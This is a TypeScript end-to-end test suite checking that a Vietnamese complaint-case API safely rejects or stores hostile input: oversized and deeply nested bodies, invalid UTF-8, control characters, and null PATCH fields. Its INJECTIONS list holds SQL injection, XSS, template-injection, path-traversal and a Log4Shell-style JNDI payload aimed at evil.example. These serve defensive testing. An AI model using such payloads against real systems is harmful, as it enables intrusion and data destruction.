import request from 'supertest';
import { todayInVietnam } from '../../apps/api/src/common/local-date';
import { authHeaders } from '../support/auth';
import { listenOnFreePort, startStack, type Stack } from '../support/stack';
import { startTemporalDevServer, type TestWorkflowEnvironment } from '../support/temporal-environment';

/**
 * Hostile input (issue #9) against the real api: oversized and deeply nested bodies, bytes that
 * are not UTF-8, NUL characters, and SQL, HTML and template injection strings in every text field
 * of a registration. Each bad request gets a clear 4xx naming the field or the body; nothing is
 * stored half-way (no case, party, audit event or clock row appears); harmless-but-nasty strings
 * are stored and returned exactly as typed (parameterised SQL, JSON responses). Path traversal
 * in attachment names: test/e2e/attachments.e2e-spec.ts.
 */
const INJECTIONS = [
  "'; DROP TABLE cases; --",
  "1' OR '1'='1",
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}} ${7*7} #{7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'Robert"); DELETE FROM audit_events; --',
];

describe('hostile input', () => {
  let temporal: TestWorkflowEnvironment;
  let stack: Stack;
  let headers: Record<string, string>;
  let apiUrl: string;

  beforeAll(async () => {
    temporal = await startTemporalDevServer();
    stack = await startStack(temporal);
    headers = await authHeaders(request(stack.api.getHttpServer()), 'agency_head', 'UBND-HN');
    // Raw bytes go over a real socket (supertest would re-serialise a Buffer as JSON).
    apiUrl = await listenOnFreePort(stack);
  }, 180_000);

  afterAll(async () => {
    await stack?.close();
    await temporal?.teardown();
  });

  const counts = async () => {
    const [row] = await stack.dataSource.query<Array<Record<string, number>>>(
      `SELECT (SELECT count(*)::int FROM cases) AS cases, (SELECT count(*)::int FROM case_parties) AS parties,
              (SELECT count(*)::int FROM audit_events) AS events, (SELECT count(*)::int FROM case_clocks) AS clocks`,
    );
    return row!;
  };
  const valid = (overrides: Record<string, unknown> = {}) => ({
    kind: 'complaint',
    agencyCode: 'UBND-HN',
    channel: 'post',
    receivedOn: todayInVietnam(),
    subject: 'Khiếu nại quyết định thu hồi đất',
    content: 'Nội dung khiếu nại.',
    respondentBody: 'UBND phường Hoàn Kiếm',
    petitioner: { fullName: 'Trần Thị Bình', address: 'Số 1 phố Huế, Hà Nội', phone: '0912345678', idNumber: '001090001234' },
    ...overrides,
  });
  const post = async (body: string | Buffer) => {
    const response = await fetch(`${apiUrl}/api/v1/cases`, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body });
    return { status: response.status, headers: { 'content-type': response.headers.get('content-type') ?? '' }, body: (await response.json()) as { code?: string; errors: Array<{ field: string; reason: string }> } };
  };

  it('refuses a body over the limit with 413 and stores nothing', async () => {
    const before = await counts();
    const res = await post(JSON.stringify(valid({ content: 'đ'.repeat(1_200_000) })));
    expect(res.status).toBe(413);
    expect(res.body.errors).toEqual([{ field: 'body', reason: 'Request body is too large' }]);
    expect(await counts()).toEqual(before);
  });

  it('refuses deeply nested JSON with a 4xx, without crashing the process', async () => {
    const before = await counts();
    const depth = 100_000;
    const res = await post(`{"kind":"complaint","petitioner":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`);
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual([{ field: 'body', reason: 'Request body nests more than 32 levels' }]);
    expect(await counts()).toEqual(before);
    // Still serving.
    await request(stack.api.getHttpServer()).get('/health').expect(200);
  });

  it('refuses a body that is not valid UTF-8 instead of storing replacement characters', async () => {
    const before = await counts();
    const json = Buffer.from(JSON.stringify(valid({ subject: 'Khiếu nại XX' })), 'utf8');
    const at = json.indexOf(Buffer.from('XX'));
    json[at] = 0xc3; // a lead byte…
    json[at + 1] = 0x28; // …followed by a byte that cannot continue it
    const res = await post(json);
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual([{ field: 'body', reason: 'Request body is not valid UTF-8' }]);
    expect(await counts()).toEqual(before);
  });

  it('refuses a NUL character in a text field with 400 naming the field', async () => {
    const before = await counts();
    for (const [field, body] of [
      ['subject', valid({ subject: 'Khiếu nại\u0000' })],
      ['petitioner.fullName', valid({ petitioner: { fullName: 'Trần\u0000Bình' } })],
      ['content', valid({ content: 'Nội dung \u001b[31m có mã điều khiển' })],
    ] as const) {
      const res = await post(JSON.stringify(body));
      expect(res.status).toBe(400);
      expect(res.body.errors).toEqual([{ field, reason: expect.stringContaining('must not contain control characters') }]);
    }
    expect(await counts()).toEqual(before);
  });

  it('refuses null for a field a partial update may only leave out (PATCH), instead of a 500', async () => {
    const admin = await authHeaders(request(stack.api.getHttpServer()), 'admin', 'CP');
    const before = await stack.dataSource.query<Array<{ name: string; active: boolean }>>(`SELECT name, active FROM agencies WHERE code = 'TTCP'`);
    const res = await request(stack.api.getHttpServer()).patch('/api/v1/agencies/TTCP').set(admin).send({ name: null, active: false }).expect(400);
    expect(res.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'name' })]));
    expect(await stack.dataSource.query(`SELECT name, active FROM agencies WHERE code = 'TTCP'`)).toEqual(before);
    const user = await request(stack.api.getHttpServer()).patch('/api/v1/users/demo.admin.CP').set(admin).send({ role: null }).expect(400);
    expect(user.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'role' })]));
  });

  it('stores injection strings in every text field exactly as typed and returns them as JSON data', async () => {
    for (const attack of INJECTIONS) {
      const body = valid({
        subject: `Khiếu nại ${attack}`,
        content: attack,
        respondentBody: attack,
        petitioner: { fullName: `Trần ${attack}`.slice(0, 200), address: attack },
      });
      const created = await post(JSON.stringify(body));
      expect(created.status).toBe(201);
      expect(created.headers['content-type']).toMatch(/^application\/json/);
      const read = await request(stack.api.getHttpServer()).get(`/api/v1/cases/${created.body.code as string}`).set(headers).expect(200);
      expect(read.body.subject).toBe(`Khiếu nại ${attack}`);
      expect(read.body.content).toBe(attack);
      expect(read.body.respondentBody).toBe(attack);
    }
    // The tables the payloads aimed at are intact.
    const [cases] = await stack.dataSource.query<Array<{ n: number }>>('SELECT count(*)::int AS n FROM cases');
    expect(cases?.n).toBeGreaterThanOrEqual(INJECTIONS.length);
  });
});
